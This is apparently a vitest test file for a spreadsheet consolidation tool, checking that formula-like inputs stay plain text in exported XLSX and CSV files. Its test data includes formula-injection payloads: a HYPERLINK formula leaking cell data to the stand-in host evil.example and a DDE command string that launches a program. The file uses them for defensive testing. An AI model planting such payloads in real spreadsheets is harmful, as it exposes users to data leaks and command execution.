import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { read as openSheetJs, type CellObject } from '@e965/xlsx'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { consolidate } from './consolidated.ts'

/** Texts that begin like formulas; every export keeps them as text (docs/design/promises.md: Promise 7). */
const texts = [
  '=HYPERLINK("http://evil.example/?"&A1,"点我")',
  "=cmd|' /C calc'!A0",
  '+86-564-1234567',
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '"=1+1"',
  '=1+1","=2',
]

let made: Awaited<ReturnType<typeof consolidate>>
const folder = mkdtempSync(join(tmpdir(), 'xiaotong-injection-'))
beforeAll(async () => {
  made = await consolidate(folder, texts)
})
afterAll(() => {
  made.close()
  rmSync(folder, { recursive: true, force: true })
})

test('each text is received exactly as it was handed in', () => {
  expect(made.received).toEqual(texts)
})

test('in the summary workbook each is a text, and nothing of it is a formula', () => {
  const { formulas, strings } = cellsOf(made.summary)
  for (const text of texts) expect(strings, JSON.stringify(text)).toContain(oneLineEnd(text))
  for (const formula of formulas) expect(formula).not.toMatch(/cmd|HYPERLINK|evil/)
})

test('in the unit’s own workbook, exported again, each is a text', () => {
  const { formulas, strings } = cellsOf(made.exported)
  for (const text of texts) expect(strings, JSON.stringify(text)).toContain(oneLineEnd(text))
  for (const formula of formulas) expect(formula).not.toMatch(/cmd|evil/)
})

test('in the summary as CSV no field begins like a formula unless it is a number', () => {
  const rows = parse(made.csv, { bom: true, relax_column_count: false }) as string[][]
  const fields = rows.flat()
  expect(fields.filter((field) => /^[=+\-@\t\r]/.test(field) && !/^-?\d+(\.\d+)?$/.test(field))).toEqual([])
  for (const row of rows) expect(row).toHaveLength(7)
})

function cellsOf(bytes: Uint8Array): { formulas: string[]; strings: string[] } {
  const book = openSheetJs(bytes, { cellFormula: true })
  const cells = Object.values(book.Sheets).flatMap((sheet) =>
    Object.entries(sheet)
      .filter(([address]) => !address.startsWith('!'))
      .map(([, cell]) => cell as CellObject),
  )
  return {
    formulas: cells.flatMap((cell) => (cell.f === undefined ? [] : [cell.f])),
    strings: cells.flatMap((cell) => (cell.f === undefined && typeof cell.v === 'string' ? [oneLineEnd(cell.v)] : [])),
  }
}

/** A text with line feeds in place of carriage returns, because programs write carriage returns in different ways. */
function oneLineEnd(text: string): string {
  return text.replace(/\r/g, '\n')
}
